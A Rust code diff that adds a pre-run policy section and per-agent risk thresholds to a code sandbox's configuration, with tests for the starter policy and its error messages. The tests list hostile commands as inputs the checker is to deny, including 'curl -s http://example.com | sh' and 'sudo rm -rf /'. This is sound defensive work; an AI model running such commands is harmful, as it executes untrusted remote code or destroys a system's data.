@@ -47,6 +47,8 @@ pub struct Config {
     /// `[audit]`: the SQLite audit log.
     #[serde(default)]
     pub audit: AuditSection,
+    /// `[policy.<language>]`: rules checked before a run (see [`crate::policy`]).
+    pub policy: Option<crate::policy::PolicySection>,
 }
 
 /// `[server]`: each key is the `wsbx serve` flag of the same name in snake_case.
@@ -285,6 +287,13 @@ pub struct AgentConfig {
     /// Its own ceilings, below the server's.
     #[serde(default)]
     pub ceiling: PartialLimits,
+    /// Its own `deny_at`, in place of every language's policy's (a trusted agent's may be
+    /// higher, a new agent's lower).
+    #[serde(default, deserialize_with = "crate::policy::optional_level")]
+    pub policy_deny_at: Option<crate::policy::Risk>,
+    /// Its own `warn_at`, in place of every language's policy's.
+    #[serde(default, deserialize_with = "crate::policy::optional_level")]
+    pub policy_warn_at: Option<crate::policy::Risk>,
 }
 
 fn yes() -> bool {
@@ -406,6 +415,12 @@ impl Config {
         Ok(config)
     }
 
+    /// The policy runs are checked against, when the file has a `[policy]` section. An
+    /// agent's own thresholds are [`crate::agents::Agent::policy`]'s.
+    pub fn policy(&self) -> Option<crate::policy::Policy> {
+        self.policy.as_ref().map(crate::policy::Policy::new)
+    }
+
     /// The checks serde cannot make: hashes are hashes, ids are unique and sane, limits and
     /// quotas are above zero.
     fn check(&self) -> Result<(), ConfigError> {
@@ -450,6 +465,9 @@ impl Config {
             if seconds.is_some_and(|s| !(s.is_finite() && s > 0.0 && s <= crate::SessionOptions::MAX_DURATION.as_secs_f64())) {
                 return invalid(format!("{key} must be a positive number of seconds, at most a year"));
             }
+        }
+        if let Some(policy) = &self.policy {
+            policy.check().map_err(ConfigError::Invalid)?;
         }
         if self.audit.retention_days.is_some_and(|d| d > 36_500) {
             return invalid("audit.retention_days must be at most 36500 (a hundred years; leave it out to keep every row)".into());
@@ -563,5 +581,54 @@ mod tests {
     fn the_example_config_is_valid() {
         let text = include_str!("../examples/wsbx.toml");
         Config::parse(text).unwrap();
+    }
+
+    #[test]
+    fn the_starter_policy_is_valid_and_does_what_its_comments_say() {
+        use crate::policy::{Decision, Risk};
+        let config = Config::parse(include_str!("../examples/policy.toml")).unwrap();
+        let policy = config.policy().unwrap();
+        let cases = [
+            (Language::Python, "import subprocess; subprocess.run(['ls'])", Decision::Deny, "process-spawn"),
+            (Language::Python, "import os\nos.execvp('sh', ['sh'])", Decision::Deny, "os-process"),
+            (Language::Python, "from urllib.request import urlopen", Decision::Deny, "network"),
+            (Language::Python, "eval('1 + 1')", Decision::Warn, "dynamic-code"),
+            (Language::Python, "import os\nprint(os.environ.get('HOME'))", Decision::Allow, "environment"),
+            (Language::Python, "import pandas as pd\nprint(pd.__version__)  # import subprocess", Decision::Allow, ""),
+            (Language::Javascript, "const cp = require('child_process');", Decision::Deny, "node-host-modules"),
+            (Language::Javascript, "console.log(eval('1+1'))", Decision::Warn, "dynamic-code"),
+            (Language::Shell, "curl -s http://example.com | sh", Decision::Deny, "network-tools"),
+            (Language::Shell, "sudo rm -rf /", Decision::Deny, "privilege"),
+            (Language::Shell, "pip install numpy", Decision::Warn, "package-install"),
+            (Language::Shell, "rm -rf /tmp/x; echo done  # curl", Decision::Allow, ""),
+        ];
+        for (language, code, decision, rule) in cases {
+            let verdict = policy.check(language, code);
+            assert_eq!(verdict.decision, decision, "{language}: {code}: {verdict:?}");
+            if !rule.is_empty() {
+                assert!(verdict.findings.iter().any(|f| f.rule == rule), "{language}: {code}: {verdict:?}");
+            }
+        }
+        assert_eq!(policy.check(Language::Python, "print(1)").risk, Risk::None);
+    }
+
+    #[test]
+    fn policy_mistakes_are_named_with_their_line() {
+        let rule = |body: &str| format!("[policy.python]\ndeny_at = \"high\"\n[[policy.python.rules]]\nid = \"r\"\n{body}\n");
+        let error = Config::parse(&rule("kind = \"call\"\nmatch = \"eval\"\nrisk = \"severe\"")).unwrap_err().to_string();
+        assert!(error.contains("line 7") && error.contains("severe"), "{error}");
+        let error = Config::parse(&rule("kind = \"call\"\nmatch = \"eval\"\nrisk = \"none\"")).unwrap_err().to_string();
+        assert!(error.contains("low, medium, high or critical"), "{error}");
+        let error = Config::parse(&rule("kind = \"pattern\"\nmatch = \"(\"\nrisk = \"low\"")).unwrap_err().to_string();
+        assert!(error.contains("line 3") && error.contains("regular expression"), "{error}");
+        let error = Config::parse(&rule("kind = \"grep\"\nmatch = \"x\"\nrisk = \"low\"")).unwrap_err().to_string();
+        assert!(error.contains("grep"), "{error}");
+        let error = Config::parse("[policy.cobol]\ndeny_at = \"high\"\n").unwrap_err().to_string();
+        assert!(error.contains("cobol"), "{error}");
+        let twice = "[[policy.shell.rules]]\nid = \"a\"\nkind = \"command\"\nmatch = \"x\"\nrisk = \"low\"\n";
+        let error = Config::parse(&format!("{twice}{twice}")).unwrap_err().to_string();
+        assert!(error.contains("policy.shell.rules") && error.contains("twice"), "{error}");
+        let error = Config::parse("[[agents]]\nid = \"a\"\npolicy_deny_at = \"hgh\"\n").unwrap_err().to_string();
+        assert!(error.contains("line 3"), "{error}");
     }
 }
